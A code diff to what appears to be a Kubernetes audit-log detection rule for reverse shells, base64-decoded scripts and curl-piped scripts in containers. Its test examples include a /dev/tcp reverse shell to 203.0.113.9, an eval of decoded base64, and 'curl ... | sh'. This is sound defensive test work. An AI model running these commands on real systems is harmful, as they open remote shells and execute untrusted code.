@@ -2,13 +2,10 @@ import { containerCommandsOf, type Trait, traitsOf } from '../../commands/comman
 import type { AuditEvent } from '../../events/event.ts';
 import type { Container } from '../../kubernetes/workload.ts';
 import type { JsonObject } from '../../primitives/json.ts';
-import { human, pipeline } from '../../sdk/caller-examples.ts';
 import { defineDetection } from '../../sdk/detection.ts';
-import { createPod, pod, workload } from '../../sdk/examples.ts';
+import { alice, bob, createPod, deniedPod, patch, pipeline, pod, workload, writeWorkload } from '../../sdk/examples.ts';
 import { said } from '../../sdk/phrases.ts';
-import { deniedPod, writeWorkload } from '../../sdk/pod-examples.ts';
 import { CONTAINER_WRITES, nameOfRequested, requestedContainers } from '../../sdk/pod-requests.ts';
-import { patch } from '../../sdk/request-examples.ts';
 
 /** The worst first. */
 const WANTED: readonly Trait[] = ['reverse shell', 'decoded script', 'downloaded script'];
@@ -58,7 +55,7 @@ const starting = (container: JsonObject) => ({
   containers: [{ name: 'main', image: 'nginx:1.27', args: ['-g', 'daemon off;'] }],
   initContainers: [{ name: 'x', image: 'busybox', ...container }],
 });
-const podStarting = (container: JsonObject) => createPod(human(), pod(starting(container)));
+const podStarting = (container: JsonObject) => createPod(alice, pod(starting(container)));
 
 export const examples = () => ({
   fires: {
@@ -79,7 +76,7 @@ export const examples = () => ({
           value: { postStart: { exec: { command: ['sh', '-c', 'eval "$(echo aWQgPiAvdG1wL3gK | base64 -d)"'] } } },
         },
       ],
-      { by: human('bob'), namespace: 'default', response: workload('Deployment', {}) },
+      { by: bob, namespace: 'default', response: workload('Deployment', {}) },
     ),
     'mallory was denied running pod default/web with a reverse shell': deniedPod(
       pod(starting({ command: ['bash'], args: ['-c', 'exec 3<>/dev/tcp/203.0.113.9/1; sh <&3 >&3'] })),
@@ -103,6 +100,6 @@ export const examples = () => ({
         response: workload('Deployment', starting({ args: ['curl https://example.org/x | sh'] })),
       },
     ),
-    'a name is no command': createPod(human(), pod({}, { name: 'reverse-shell', labels: { run: 'curl-pipe-sh' } })),
+    'a name is no command': createPod(alice, pod({}, { name: 'reverse-shell', labels: { run: 'curl-pipe-sh' } })),
   },
 });
